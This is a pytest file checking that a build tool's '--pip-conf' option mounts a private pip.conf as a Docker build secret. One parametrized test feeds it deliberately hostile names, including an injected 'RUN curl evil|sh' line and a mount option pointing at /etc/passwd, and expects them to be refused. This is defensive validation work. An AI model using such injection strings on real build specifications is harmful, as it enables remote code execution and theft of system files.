"""``freeze --pip-conf NAME``: the frozen operation installs through a build secret (a private
index's ``pip.conf``), so it builds against a private index as written, without hand-editing."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from polymagic.app.freeze_command import default_freeze_arguments, freeze_interpreter
from polymagic.errors import SpecError
from polymagic.render.compiler import compile_operation
from polymagic.render.freeze import Environment, FreezeOptions, freeze
from polymagic.render.run_mounts import run_mounts, secret_arguments
from polymagic.spec.loader import load_connections

CATALOG = [
    {"name": "reg", "kind": "registry", "schema": {"url": "registry.example.com"}},
    {
        "name": "team-pip",
        "kind": "custom",
        "secret": {"name": "team-pip", "mountPath": "/secrets/pip", "items": ["pip.conf"]},
    },
]


def test_the_install_reads_the_connections_secret_as_pip_conf() -> None:
    result = freeze(
        Environment((3, 11, 7), ()),
        FreezeOptions(destination="registry.example.com/org/app", connection="reg",
                      pip_conf="team-pip"),
    )  # fmt: skip
    document = yaml.safe_load(result.operation)
    assert document["runPatch"]["connections"] == ["team-pip"]
    build = compile_operation(result.operation, connections=load_connections(CATALOG))
    runs = [line for line in build.dockerfiles[0].text.splitlines() if line.startswith("RUN ")]
    assert runs == [
        "RUN --mount=type=secret,id=team-pip,target=/etc/pip.conf"
        " --mount=type=cache,target=/root/.cache/pip"
        " --mount=type=bind,source=requirements.txt,target=/tmp/requirements.txt"
        " pip install -r /tmp/requirements.txt"
    ]
    assert secret_arguments(build, run_mounts(build)) == [
        "--secret=id=team-pip,src=/secrets/pip/pip.conf"
    ]


def test_without_it_the_operation_names_no_connection() -> None:
    result = freeze(Environment((3, 11, 7), ()), FreezeOptions(destination="r.example.com/a"))
    document = yaml.safe_load(result.operation)
    assert "connections" not in document["runPatch"]
    assert document["runPatch"]["init"][0]["dockerfile"]["run"] == [
        "--mount=type=cache,target=/root/.cache/pip"
        " --mount=type=bind,source=requirements.txt,target=/tmp/requirements.txt"
        " pip install -r /tmp/requirements.txt"
    ]


@pytest.mark.parametrize(
    "name", ["a b", "x\nRUN curl evil|sh", "pip,target=/etc/passwd", ""], ids=repr
)
def test_a_pip_conf_that_is_not_a_connection_name_is_refused(name: str, tmp_path: Path) -> None:
    args = default_freeze_arguments()
    args.pip_conf = name
    with pytest.raises(SpecError, match=r"--pip-conf .*: give a connection name"):
        freeze_interpreter(args, tmp_path, modules={})
    assert list(tmp_path.iterdir()) == []
